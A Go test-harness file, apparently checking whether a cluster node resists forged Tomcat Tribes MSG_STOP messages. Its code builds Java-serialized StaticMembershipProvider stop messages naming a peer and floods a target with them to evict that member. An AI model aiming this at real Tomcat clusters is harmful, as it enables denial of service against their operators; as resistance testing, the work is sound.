package main

import (
	"context"
	"fmt"
	"net"
	"slices"
	"strconv"
	"time"

	"github.com/gotribes/tribes/channel"
	"github.com/gotribes/tribes/internal/jmember"
	"github.com/gotribes/tribes/jserial"
	"github.com/gotribes/tribes/membership/staticsvc"
	"github.com/gotribes/tribes/wire"
)

// forgedStop sends the target, as a process that is no member, MSG_STOPs of the static
// membership protocol naming member B (its address and unique id, which B's every reply
// to a START or PING gives anyone), every 5 ms. Tomcat's StaticMembershipProvider drops
// the member a STOP names at once; a Go target checks it with a PING to B, which answers
// with itself. Breaches: the members the target reported gone during the attack, one if
// it no longer lists B afterwards, and, as nothing was shown otherwise, one if it refuted
// no STOP (staticsvc Stats.StopsRefuted).
func forgedStop(ctx context.Context, c *cluster) (outcome, error) {
	b := c.nodes[1]
	host, port, err := net.SplitHostPort(b.addr)
	if err != nil {
		return outcome{}, err
	}
	p, err := strconv.Atoi(port)
	if err != nil {
		return outcome{}, err
	}
	victim := wire.Member{Host: net.ParseIP(host).To4(), Port: int32(p), SecurePort: -1, UDPPort: -1, AliveTime: 1, UniqueID: b.id}
	data, err := stopMessage(victim, staticsvc.DefaultChannelName)
	if err != nil {
		return outcome{}, err
	}
	before, err := c.stats(0)
	if err != nil {
		return outcome{}, fmt.Errorf("target stats: %w", err)
	}
	self := strangerMember(1, 0x57) // a port nothing listens on
	var sent int
	tick := time.NewTicker(5 * time.Millisecond)
	defer tick.Stop()
	var conn net.Conn
	defer func() {
		if conn != nil {
			conn.Close()
		}
	}()
	for ctx.Err() == nil {
		if conn == nil {
			if conn, err = dial(ctx, c.nodes[0].addr); err != nil {
				conn = nil
				sleep(ctx, 10*time.Millisecond)
				continue
			}
		}
		// A serialized object, not a byte message: the option bits of a MSG_STOP.
		f := wire.AppendChannelDataFrame(nil, uint32(channel.OptAsync), time.Now().UnixMilli(), channel.NewMessageID(),
			wire.AppendMember(nil, &self), data)
		if _, err := conn.Write(f); err != nil {
			conn.Close()
			conn = nil
			continue
		}
		sent++
		select {
		case <-tick.C:
		case <-ctx.Done():
		}
	}
	if sent == 0 {
		return outcome{}, fmt.Errorf("not one MSG_STOP reached the target at %s", c.nodes[0].addr)
	}
	// The check of the last STOPs ends within a round trip (B answers at once).
	var after nodeStats
	_ = poll(context.Background(), 2*time.Second, func() (bool, error) {
		st, err := c.stats(0)
		if err == nil {
			after = st
		}
		return err == nil && st.StopsRefuted > before.StopsRefuted, err
	})
	refuted := after.StopsRefuted - before.StopsRefuted
	gone := after.MembersGone - before.MembersGone
	listsB := slices.Contains(after.MemberIDs, b.id.String())
	out := outcome{note: fmt.Sprintf("%d forged MSG_STOPs naming B; the target refuted %d (one check a second), reported %d members gone, lists B: %v",
		sent, refuted, gone, listsB), breaches: int64(gone)}
	if !listsB {
		out.breaches++
	}
	if refuted == 0 {
		out.breaches++
		out.note += "; the target refuted NO STOP"
	}
	return out, nil
}

// stopMessage is a MSG_STOP of Tomcat's StaticMembershipProvider (its MemberMessage,
// Java-serialized) naming m with the shutdown command, for the channel called channelName.
func stopMessage(m wire.Member, channelName string) ([]byte, error) {
	desc := &jserial.ClassDesc{
		Name: "org.apache.catalina.tribes.membership.StaticMembershipProvider$MemberMessage", SUID: 1,
		Flags: jserial.SCSerializable,
		Fields: []jserial.Field{
			{Type: 'I', Name: "msgtype"},
			{Type: 'L', Name: "member", Signature: "Lorg/apache/catalina/tribes/Member;"},
			{Type: '[', Name: "membershipId", Signature: "[B"},
		},
	}
	o, err := jserial.NewObject(desc)
	if err != nil {
		return nil, err
	}
	m.Command = wire.ShutdownCommand
	const msgStop = 2
	for _, f := range []struct {
		name string
		v    any
	}{{"msgtype", int32(msgStop)}, {"member", jmember.Object(jmember.Desc(staticsvc.MemberImplSUID), &m)},
		{"membershipId", []byte(channelName + "-StaticMembership")}} {
		if err := o.SetField(f.name, f.v); err != nil {
			return nil, err
		}
	}
	return jserial.Marshal(o)
}
